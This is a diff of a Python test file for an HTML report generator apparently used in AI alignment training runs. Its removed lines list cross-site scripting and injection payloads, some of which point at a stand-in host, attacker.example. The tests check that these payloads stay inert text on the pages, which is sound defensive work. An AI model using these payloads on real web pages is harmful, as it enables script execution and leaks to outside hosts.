@@ -3,41 +3,19 @@
 import json
 import re
 from collections.abc import Callable, Iterator
-from contextlib import contextmanager
 from html.parser import HTMLParser
 from pathlib import Path
+from typing import Any
 
 import pytest
 
 from lite_align.evaluate.folder import read
-from lite_align.evaluate.report import badges, command_line, differences, render, write
+from lite_align.evaluate.pages import compared, side_by_side
+from lite_align.evaluate.report import render, write
+from tests.browser import ATTACKS, CONTRAST, chromium, needs_chromium, opened
+from tests.evaluate import evaluated
 
 Builder = Callable[..., Path]
-CHROMIUM = Path("/usr/bin/chromium")
-BROWSER = [
-    "--no-sandbox",
-    "--disable-gpu",
-    "--disable-background-networking",
-    "--no-first-run",
-    "--disable-sync",
-]
-
-ATTACKS = (
-    "<script>window.hit=1</script>",
-    "<img src=x onerror=window.hit=1>",
-    "<svg/onload=window.hit=1>",
-    "</p></article><iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
-    '" onmouseover="window.hit=1" autofocus onfocus="window.hit=1',
-    "<a href='javascript:window.hit=1'>x</a>",
-    "<style>@import 'https://attacker.example/x.css';</style>",
-    "<link rel=stylesheet href=https://attacker.example/x.css><img src=https://attacker.example/p.png>",
-    "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
-    "<base href=https://attacker.example/><form action=https://attacker.example><button>x</button></form>",
-    "{{ 7*7 }}{% raw %}<b>",
-    "</style><script>window.hit=1</script>",
-    "\u202egnirts desrever \u2066\u200b",
-    "\x1b[31mred\x07 \ud800 ]]><!--",
-)
 
 
 class Tags(HTMLParser):
@@ -59,6 +37,25 @@ def parse(page: str) -> Tags:
     return found
 
 
+def whole(build: Builder, name: str = "dpo-preferences-0001", **options: Any) -> Path:
+    """A run with an evaluation, gates, lint and a parent."""
+    folder = build(
+        name,
+        run={
+            "parents": [
+                {"run": "runs/sft-0001", "stage": "sft", "role": "policy", "adapter": "01234567" * 8}
+            ],
+            "data": {
+                **{"rows": 640, "dropped": {"LA301": 19}, "kind": "pairs"},
+                "warnings": [{"rule": "LA305", "text": "chosen is longer in 71 % of pairs"}],
+                "tokens": {"prompt": {"median": 9, "95 %": 20, "longest": 1031}},
+            },
+        },
+        **options,
+    )
+    return evaluated.put(folder, eval=evaluated.evaluation(), gates=evaluated.gates())
+
+
 def attacked(build: Builder, name: str = "attacked") -> Path:
     """A run in which every text of the user or the model is an attack."""
     texts = list(ATTACKS)
@@ -70,18 +67,33 @@ def attacked(build: Builder, name: str = "attacked") -> Path:
             for i, t in enumerate(texts)
         ],
         run={
-            **{"stage": texts[0], "status": texts[1], "parents": [texts[2]], "command": texts},
+            **{"stage": texts[0], "status": texts[1], "command": texts},
+            "parents": [texts[2], {"run": texts[3], "stage": texts[4], "adapter": texts[5]}],
             **{"started": texts[0], "provenance": {texts[3]: texts[4]}},
             **{
                 k: {t: t for t in texts}
                 for k in ("recipe", "model", "reference", "versions", "hashes", "plan")
             },
-            "data": {"name": texts[0], "dropped": {t: t for t in texts}},
+            "data": {
+                **{"name": texts[0], "dropped": {t: t for t in texts}},
+                "warnings": [{"rule": t, "text": t} for t in texts],
+                "tokens": {t: {t: t for t in texts} for t in texts},
+            },
         },
     )
     rows = [row | {"category": texts[i % len(texts)]} for i, row in enumerate(read(folder).held_out)]
     (folder / "held_out.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
-    return folder
+    hostile = {name: evaluated.figure(0.5, 0.1, 0.4, unit=name) for t in texts for name in (t, f"kl/{t}")}
+    judged = [{"gate": t, "figure": t, "verdict": t, "why": t, "value": t} for t in texts]
+    return evaluated.put(
+        folder,
+        eval={
+            "figures": hostile | {"bad " + t: t for t in texts},
+            "data": {t: t for t in texts},
+            "command": texts,
+        },
+        gates={"gates": judged + [{**judged[0], "gate": t + ">=1"} for t in texts]},
+    )
 
 
 def test_key_figures_proofs_and_changes_are_on_the_page(build: Builder) -> None:
@@ -103,22 +115,52 @@ def test_key_figures_proofs_and_changes_are_on_the_page(build: Builder) -> None:
     assert "100 % of rows" in text
 
 
-def test_badges_say_what_was_proved_and_what_was_not(build: Builder) -> None:
-    fine = badges(read(build()))
-    assert [badge.passed for badge in fine] == [True] * 4
-    bad = build(
-        "unproved",
-        run={
-            "status": "failed",
-            "reference": {"base_sha256": "ab", "proof": {"loss": 0.75, "expected": 0.6931}},
-        },
-        metrics=[{"step": 1, "loss": float("nan"), "moved": 0.004}],
+def test_evaluation_and_gates_are_on_the_page(build: Builder) -> None:
+    page = render(read(whole(build))).replace("\u00a0", " ")
+    text = " ".join(re.sub(r"<[^>]+>", " ", page).split())
+    top = text[text.index("Skip to") :][:1500]
+    for part in (
+        *("KL to the reference", "1.9 nats", "[1.5, 2.3], 60 rows"),
+        *("FAILED kl &lt;=1 · 1.9 nats [1.5, 2.3]", "too little evidence alpha &gt;=0.4"),
+        *("passed refusal/unsafe &gt;=0.8 · 95 % [86 %, 98 %]",),
+    ):
+        assert part in top, part
+    assert re.search(
+        r"Pair accuracy\s+60\s+50 %\s+78 %\s+\[69 %, 87 %\]\s+\+28 \[\+19, \+37\] points\s+better", text
     )
-    assert [(badge.name, badge.passed) for badge in badges(read(bad))] == [
-        ("starts at its reference", False),
-        ("adapter moves", False),
-        ("all losses finite", False),
-    ]
+    assert re.search(r"Over-refusal\s.*?better", text)
+    assert "length-short" in text
+    assert "the whole interval lies above 1" in text
+    titles = re.findall(r"<h3>(.*?)</h3>", page)
+    assert {"Pair accuracy", "KL to the reference", "Refusals"} <= set(titles)
+
+
+def test_data_lint_lengths_and_lineage_are_on_the_page(build: Builder) -> None:
+    text = re.sub(r"<[^>]+>", " ", render(read(whole(build))).replace("\u00a0", " "))
+    for pattern in (
+        r"LA301\s+19 rows left out\s+LA305\s+chosen is longer in 71 % of pairs",
+        r"median\s+95 %\s+longest\s+prompt\s+9\s+20\s+1,031",
+        r"dpo-preferences-0001\s+dpo\s+this run\s+runs/sft-0001\s+sft\s+adapter 012345670123 · its folder is not",
+    ):
+        assert re.search(pattern, text), pattern
+
+
+def test_settings_with_their_defaults_are_folded(build: Builder) -> None:
+    page = render(read(build()))
+    before, _, after = page.partition("settings with their defaults</summary>")
+    assert "--model" in before
+    assert "auto: a small model" in before
+    assert ">default<" in after
+    assert ">default<" not in before
+
+
+def test_sections_that_are_there_are_linked(build: Builder) -> None:
+    found = parse(render(read(whole(build))))
+    ids = {value for name, value in found.attributes if name == "id"}
+    links = [value for name, value in found.attributes if name == "href" and value != "#main"]
+    sections = [link for link in links if link and link.startswith("#s-")]
+    assert {link[1:] for link in sections} <= ids
+    assert len(sections) == len({i for i in ids if i and i.startswith("s-")}) == 9
 
 
 def test_equal_folders_give_equal_pages(build: Builder) -> None:
@@ -150,11 +192,12 @@ def test_the_page_needs_nothing_and_names_its_parts(build: Builder) -> None:
 
 def test_attacks_stay_text(build: Builder) -> None:
     page = write(attacked(build)).read_text(encoding="utf-8")
-    sound, found = parse(render(read(build()))), parse(page)
+    sound, found = parse(render(read(whole(build)))), parse(page)
     assert set(found.tags) <= set(sound.tags)
     assert {name for name, _ in found.attributes} <= {name for name, _ in sound.attributes}
     assert not re.search("[\u202e\u2066\u200b\x1b\x07\ud800]", page)
     assert "{{ 7*7 }}" in page
+    assert "<!--" not in page  # an attack that opens a comment would hide the others
 
 
 @pytest.mark.parametrize("lost", ["metrics.jsonl", "held_out.jsonl", "answers.jsonl", None])
@@ -171,32 +214,6 @@ def test_many_answers_are_cut_off_with_a_word_about_it(build: Builder) -> None:
     page = render(read(build(answers=[{"prompt": "p", "before": "a", "after": "b"}] * 130)))
     assert "30 more are in answers.jsonl" in page
     assert page.count("<article") == 100
-
-
-def test_differences_are_marked_by_words() -> None:
-    before, after = differences("The library opens at ten. It is nice.", "The library opens at ten sharp.")
-    assert [(s.text, s.mark) for s in before] == [("The library opens at ", ""), ("ten. It is nice.", "del")]
-    assert [(s.text, s.mark) for s in after] == [("The library opens at ", ""), ("ten sharp.", "ins")]
-    # One common word between two changes is not a match worth showing: "so" stays inside the mark.
-    before, after = differences("It is good so far", "It is bad so what")
-    assert [(s.text, s.mark) for s in after] == [("It is ", ""), ("bad so what", "ins")]
-    # Nothing in common, or too much to compare: plain text.
-    assert [s.mark for side in differences("Take a pin", "Call someone else") for s in side] == ["", ""]
-    long = "word " * 1600
-    assert [s.mark for s in differences(long, long + "x")[1]] == [""]
-
-
-def test_differences_lose_no_text() -> None:
-    texts = ("a  b\n\nc", " lead a b trail ", "x\ty", "")
-    for before in texts:
-        for after in texts:
-            left, right = differences(before, after)
-            assert ("".join(s.text for s in left), "".join(s.text for s in right)) == (before, after)
-
-
-def test_the_command_can_be_pasted() -> None:
-    assert command_line(["lite-align", "dpo", "my data.jsonl"]) == "lite-align dpo 'my data.jsonl'"
-    assert command_line(None) == ""
 
 
 def attacked_policy(build_policy: Builder) -> Path:
@@ -235,7 +252,8 @@ def test_attacks_in_samples_and_guards_stay_text(build_policy: Builder) -> None:
     assert {name for name, _ in found.attributes} <= {name for name, _ in sound.attributes}
     assert not re.search("[\u202e\u2066\u200b\x1b\x07\ud800]", page)
     assert "{{ 7*7 }}" in page
-    assert page.count("<details") == 12
+    assert "<!--" not in page  # an attack that opens a comment would hide the others
+    assert page.count('<details class="card samples"') == 12
     assert "2 more prompts are in samples.jsonl" in page
 
 
@@ -243,45 +261,76 @@ def test_the_page_of_a_policy_tells_of_hacking_first_and_shows_samples(build_pol
     page = render(read(build_policy(hacked=True, rolled_back_to=18)))
     text = re.sub(r"<[^>]+>", "", page)
     assert text.index("Reward hacking was seen at step 36") < text.index("Rule score")
-    headings = re.findall(r"<h[23]>(.*?)</h[23]>", page)
+    headings = re.findall(r"<h[23][^>]*>(.*?)</h[23]>", page)
     assert headings[:3] == ["Curves", "Reward against KL", "Reward"]
     assert {"Rule score by category", "Rule score by category over the run", "Samples over the run"} <= set(
         headings
     )
-    assert page.count("<details") == 3
+    assert page.count('<details class="card samples"') == 3
     assert page.count(" open>") == 1
     assert "Please feel free to ask again" in text
     ids = [value for name, value in parse(page).attributes if name == "id"]
     assert len(ids) == len(set(ids))
 
 
+def hostile(build: Builder, tmp_path: Path, kind: str) -> Path:
+    """A page of attacks: of a run, of two runs, or of a comparison."""
+    texts = list(ATTACKS)
+    if kind == "run":
+        return write(attacked(build))
+    if kind == "runs":
+        folders = [attacked(build, "attacked"), attacked(build, texts[0].replace("/", "") + "'")]
+        return side_by_side.write(folders, tmp_path / "runs.html")
+    record = {
+        **{
+            "sides": texts[:2],
+            "judge": texts[3],
+            "command": texts,
+            "time": texts[4],
+            texts[5]: {texts[6]: texts[7]},
+        },
+        **{"figures": {t: evaluated.figure(0.5, 0.1, 0.4, unit=t) for t in (*texts, f"win_rate/{texts[0]}")}},
+        **{name: {t: t for t in texts} for name in ("position_bias", "failures", "agreement")},
+    }
+    rows = [
+        {
+            **{"prompt": [{"role": t, "content": t}], "a": t, "b": texts[-n], "category": t, "choice": "a"},
+            **{"annotator": t, "note": t, "model_a": t, "model_b": texts[1]},
+        }
+        for n, t in enumerate(texts)
+    ]
+    return compared.write(evaluated.compared(tmp_path / "compare", record, rows))
+
+
+@pytest.mark.parametrize("kind", ["runs", "comparison"])
+def test_attacks_on_other_pages_stay_text(build: Builder, tmp_path: Path, kind: str) -> None:
+    page = hostile(build, tmp_path, kind).read_text(encoding="utf-8")
+    found = parse(page)
+    assert not {"script", "iframe", "object", "embed", "base", "form", "a href"} & set(found.tags)
+    assert found.tags.count("img") == found.tags.count("link") == 0
+    assert found.tags.count("style") == found.tags.count("h1") == 1
+    assert not [name for name, _ in found.attributes if name.startswith("on") or name in ("src", "autofocus")]
+    assert all((value or "").startswith("#") for name, value in found.attributes if name == "href")
+    assert not re.search("[\u202e\u2066\u200b\x1b\x07\ud800]", page)
+    assert "{{ 7*7 }}" in page
+    assert "<!--" not in page  # an attack that opens a comment would hide the others
+
+
 # In a browser.
 
-needs_chromium = pytest.mark.skipif(not CHROMIUM.exists(), reason=f"{CHROMIUM} is not installed")
 
-
-@contextmanager
-def opened(path: Path, **options) -> Iterator[tuple]:
-    """The page in headless Chromium, and the list of addresses that it asked for."""
-    playwright = pytest.importorskip("playwright.sync_api", reason="playwright is in the dev extra")
-    with playwright.sync_playwright() as driver:
-        browser = driver.chromium.launch(executable_path=str(CHROMIUM), args=BROWSER)
-        try:
-            page = browser.new_context(**options).new_page()
-            asked: list[str] = []
-            page.on("request", lambda request: asked.append(request.url))
-            page.on("dialog", lambda dialog: asked.append("dialog"))
-            page.goto(path.as_uri())
-            yield page, asked
-        finally:
-            browser.close()
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Any]:
+    with chromium() as started:
+        yield started
 
 
 @pytest.mark.slow
 @needs_chromium
-def test_in_a_browser_attacks_do_nothing(build: Builder) -> None:
-    path = write(attacked(build))
-    with opened(path) as (page, asked):
+@pytest.mark.parametrize("kind", ["run", "runs", "comparison"])
+def test_in_a_browser_attacks_do_nothing(browser: Any, build: Builder, tmp_path: Path, kind: str) -> None:
+    path = hostile(build, tmp_path, kind)
+    with opened(browser, path) as (page, asked):
         page.mouse.move(200, 900)
         page.wait_for_timeout(200)
         assert page.evaluate("window.hit") is None
@@ -291,8 +340,13 @@ def test_in_a_browser_attacks_do_nothing(build: Builder) -> None:
 
 @pytest.mark.slow
 @needs_chromium
-def test_in_a_browser_figures_show_filters_work_and_narrow_windows_fit(build: Builder) -> None:
-    with opened(write(build()), viewport={"width": 390, "height": 800}, color_scheme="dark") as (page, asked):
+def test_in_a_browser_figures_show_filters_work_and_narrow_windows_fit(browser: Any, build: Builder) -> None:
+    with opened(
+        browser, write(whole(build)), viewport={"width": 390, "height": 800}, color_scheme="dark"
+    ) as (
+        page,
+        asked,
+    ):
         assert len(asked) == 1
         for text in ("better", "78 %", "+23 %"):
             assert page.get_by_text(text.replace(" ", "\u00a0")).first.is_visible()
@@ -310,47 +364,21 @@ def test_in_a_browser_figures_show_filters_work_and_narrow_windows_fit(build: Bu
         assert lightest >= 4.5
 
 
-CONTRAST = """() => {
-  const part = v => { v /= 255; return v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4 };
-  const parse = c => { const [r, g, b, a = 1] = c.match(/[\\d.]+/g).map(Number); return {r, g, b, a} };
-  const light = c => 0.2126 * part(c.r) + 0.7152 * part(c.g) + 0.0722 * part(c.b);
-  const back = e => {
-    for (; e; e = e.parentElement) { const c = parse(getComputedStyle(e).backgroundColor); if (c.a) return c }
-    return {r: 255, g: 255, b: 255};
-  };
-  let least = 21;
-  for (const e of document.querySelectorAll('body *')) {
-    const own = [...e.childNodes].some(n => n.nodeType === 3 && n.textContent.trim());
-    if (!own || !e.checkVisibility() || e.closest('.skip')) continue;
-    const svg = e.closest('svg');
-    const a = light(parse(svg ? getComputedStyle(e).fill : getComputedStyle(e).color)), b = light(back(e));
-    least = Math.min(least, (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05));
-  }
-  return least;
-}"""
-
-
 @pytest.mark.slow
 @needs_chromium
 @pytest.mark.parametrize("scheme", ["light", "dark"])
-def test_in_a_browser_all_text_has_aa_contrast(build: Builder, scheme: str) -> None:
-    with opened(write(build(chosen=-6.0)), color_scheme=scheme) as (page, _):
+def test_in_a_browser_all_text_has_aa_contrast(browser: Any, build: Builder, scheme: str) -> None:
+    with opened(browser, write(whole(build, chosen=-6.0)), color_scheme=scheme) as (page, _):
         assert page.evaluate(CONTRAST) >= 4.5
-
-
-def test_what_a_run_continues_is_told_by_name_and_hash(build: Callable[..., Path]) -> None:
-    folder = build()
-    record = json.loads((folder / "run.json").read_text())
-    parents = [{"run": "runs/sft-0001", "stage": "sft", "role": "policy", "adapter": "0123456789abcdef" * 4}]
-    (folder / "run.json").write_text(json.dumps({**record, "parents": parents}))
-    assert "Continues runs/sft-0001 (sft, adapter 0123456789ab)." in render(read(folder))
 
 
 @pytest.mark.slow
 @needs_chromium
-def test_in_a_browser_the_page_of_a_policy_fits_opens_and_has_contrast(build_policy: Builder) -> None:
+def test_in_a_browser_the_page_of_a_policy_fits_opens_and_has_contrast(
+    browser: Any, build_policy: Builder
+) -> None:
     path = write(build_policy(hacked=True))
-    with opened(path, viewport={"width": 390, "height": 800}, color_scheme="dark") as (page, asked):
+    with opened(browser, path, viewport={"width": 390, "height": 800}, color_scheme="dark") as (page, asked):
         assert len(asked) == 1
         assert page.evaluate("document.documentElement.scrollWidth") <= 390
         assert page.evaluate(CONTRAST) >= 4.5
@@ -359,3 +387,50 @@ def test_in_a_browser_the_page_of_a_policy_fits_opens_and_has_contrast(build_pol
         second.locator("summary").click()
         assert second.locator("table").is_visible()
         assert page.evaluate("document.documentElement.scrollWidth") <= 390
+
+
+@pytest.mark.slow
+@needs_chromium
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_in_a_browser_runs_side_by_side_fit_and_have_contrast(
+    browser: Any, build: Builder, tmp_path: Path, scheme: str
+) -> None:
+    path = side_by_side.write([whole(build, "one"), whole(build, "two", gain=0.9)], tmp_path / "runs.html")
+    with opened(browser, path, viewport={"width": 390, "height": 800}, color_scheme=scheme) as (page, asked):
+        assert asked == [path.as_uri()]
+        assert page.evaluate("document.documentElement.scrollWidth") <= 390
+        assert page.evaluate(CONTRAST) >= 4.5
+        colours = page.evaluate(
+            "[...document.querySelectorAll('.letter')].map(e => getComputedStyle(e).backgroundColor)"
+        )
+        assert len(set(colours)) == 2
+        page.get_by_label("unsafe").check()
+        assert page.locator("article:visible").count() == 1
+
+
+@pytest.mark.slow
+@needs_chromium
+def test_in_a_browser_a_comparison_is_filtered_by_category_and_by_outcome(
+    browser: Any, tmp_path: Path
+) -> None:
+    path = compared.write(evaluated.compared(tmp_path / "compare"))
+    with opened(browser, path, viewport={"width": 390, "height": 800}, color_scheme="dark") as (page, _):
+        assert page.evaluate("document.documentElement.scrollWidth") <= 390
+        assert page.evaluate(CONTRAST) >= 4.5
+        assert page.locator("article:visible").count() == 12
+        page.get_by_label("a tie").check()
+        assert page.locator("article:visible").count() == 3
+        page.get_by_label("howto").check()
+        assert page.locator("article:visible").count() == 1
+        page.emulate_media(media="print")
+        assert page.locator("article:visible").count() == 12
+
+
+@pytest.mark.slow
+@needs_chromium
+def test_on_paper_folded_settings_are_open(browser: Any, build: Builder) -> None:
+    with opened(browser, write(build())) as (page, _):
+        shown = "document.querySelector('details table').checkVisibility({contentVisibilityAuto: true})"
+        assert not page.evaluate(shown)
+        page.emulate_media(media="print")
+        page.wait_for_function(shown)  # what was skipped is laid out in the next frame
